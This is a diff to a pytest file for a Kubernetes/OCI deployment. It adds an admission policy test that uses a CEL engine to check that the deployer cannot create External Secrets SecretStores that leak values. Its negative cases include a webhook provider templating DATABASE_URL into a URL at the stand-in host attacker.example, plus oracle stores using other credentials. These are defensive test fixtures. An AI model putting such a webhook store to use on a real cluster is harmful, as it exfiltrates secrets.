@@ -7,10 +7,12 @@ import sys
 from collections.abc import Callable, Iterator
 from pathlib import Path
 
+import celpy
 import kubernetes_validate
 import pytest
 import yaml
 
+from components.cluster_access import deployer_access
 from components.naming import DEFAULT_SERVICES
 from components.stack_config import CLOCK_VARIABLE
 from offline import plan
@@ -72,7 +74,8 @@ def test_written_manifests_are_valid_kubernetes_objects(tmp_path, capsys, schema
     # The IAM program's statements, for the IAM administrator; none waits for an OCID of the deployment.
     assert f"# Policy ecommerce-{stack}-secrets-access:" in iam_text and "<" not in "".join(statements)
     access = list(yaml.safe_load_all((tmp_path / stack / "deployer-access.yaml").read_text()))
-    assert [d["kind"] for d in access] == ["Role", "RoleBinding", "ClusterRole", "ClusterRoleBinding"]
+    assert [d["kind"] for d in access] == ["Role", "RoleBinding", "ClusterRole", "ClusterRoleBinding",
+                                           "ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding"]
     for document in access:
         kubernetes_validate.validate(document, "1.34", strict=True)
 
@@ -80,9 +83,7 @@ def test_written_manifests_are_valid_kubernetes_objects(tmp_path, capsys, schema
 def test_the_deployers_kubernetes_access_cannot_reach_a_value():
     """The Role that closes the chain through the cluster grants no Secret, pod or workload, no service-account
     token, no RBAC and no wildcard; its cluster-wide part reaches one namespace object only."""
-    from components.cluster_access import deployer_access
-
-    role, _, cluster_role, _ = deployer_access("production", "ecommerce-production")
+    role, _, cluster_role, *_ = deployer_access("production", "ecommerce-production", "ecommerce-secrets-sync")
     granted = {(group, resource) for rule in role["rules"] + cluster_role["rules"]
                for group in rule["apiGroups"] for resource in rule["resources"]}
     assert granted == {("external-secrets.io", "secretstores"), ("external-secrets.io", "externalsecrets"),
@@ -136,3 +137,51 @@ def test_the_plan_is_byte_identical_under_any_hash_seed(plan_under_another_hash_
     out, there = plan_under_another_hash_seed()
     assert here.out == out
     assert files(tmp_path) == files(there) and files(there)
+
+
+def admitted(policy: dict, store: dict) -> bool:
+    """What the API server does with a SecretStore under the policy: every validation must evaluate to true;
+    one that is false or fails to evaluate (a missing field) refuses it, since failurePolicy is Fail."""
+    assert policy["spec"]["failurePolicy"] == "Fail"
+    environment = celpy.Environment()
+    for validation in policy["spec"]["validations"]:
+        try:
+            if environment.program(environment.compile(validation["expression"])).evaluate(
+                    {"object": celpy.json_to_cel(store)}) != celpy.celtypes.BoolType(True):
+                return False
+        except celpy.CELEvalError:
+            return False
+    return True
+
+
+def test_the_deployer_can_write_no_secret_store_that_sends_a_value_out(stack_runs):
+    """With deployer-access.yaml applied the deployer still writes its namespace's SecretStore (the program creates
+    it). It could make one of ESO's webhook provider, whose URL templates a synced Secret's value (ESO
+    docs/provider/webhook.md), or an oracle one with an API key of its own, and ESO's controller, which reads every
+    Secret, would send that value out. The admission policy, evaluated here with a CEL engine as the API server
+    would, admits the program's own store and refuses those, in that namespace only."""
+    store = stack_runs["production"].of_type("kubernetes:external-secrets.io/v1:SecretStore")[0].plain_inputs
+    namespace, oracle = store["metadata"]["namespace"], store["spec"]["provider"]["oracle"]
+    documents = deployer_access("production", namespace, oracle["serviceAccountRef"]["name"])
+    [policy] = [d for d in documents if d["kind"] == "ValidatingAdmissionPolicy"]
+    [binding] = [d for d in documents if d["kind"] == "ValidatingAdmissionPolicyBinding"]
+    assert binding["spec"] == {"policyName": policy["metadata"]["name"], "validationActions": ["Deny"]}
+    assert policy["spec"]["matchConstraints"]["namespaceSelector"] == {"matchLabels": {"kubernetes.io/metadata.name": namespace}}
+    [rule] = policy["spec"]["matchConstraints"]["resourceRules"]
+    assert rule["resources"] == ["secretstores"] and set(rule["operations"]) == {"CREATE", "UPDATE"}
+    assert admitted(policy, store)
+
+    def provider(value: dict) -> dict:
+        return {**store, "spec": {"provider": value}}
+
+    webhook = {"webhook": {"url": "https://attacker.example/{{ .s.DATABASE_URL }}", "method": "GET",
+                           "secrets": [{"name": "s", "secretRef": {"name": "auth-service-secrets"}}]}}
+    refused = {
+        "webhook": provider(webhook),
+        "webhook beside oracle": provider({**store["spec"]["provider"], **webhook}),
+        "oracle with its own API key": provider({"oracle": {**oracle, "principalType": "UserPrincipal",
+                                                            "auth": {"user": "ocid1.user.oc1..x", "tenancy": "ocid1.tenancy.oc1..x"}}}),
+        "oracle as another service account": provider({"oracle": {**oracle, "serviceAccountRef": {"name": "default"}}}),
+        "oracle without a service account": provider({"oracle": {k: v for k, v in oracle.items() if k != "serviceAccountRef"}}),
+    }
+    assert [name for name, bad in refused.items() if admitted(policy, bad)] == []
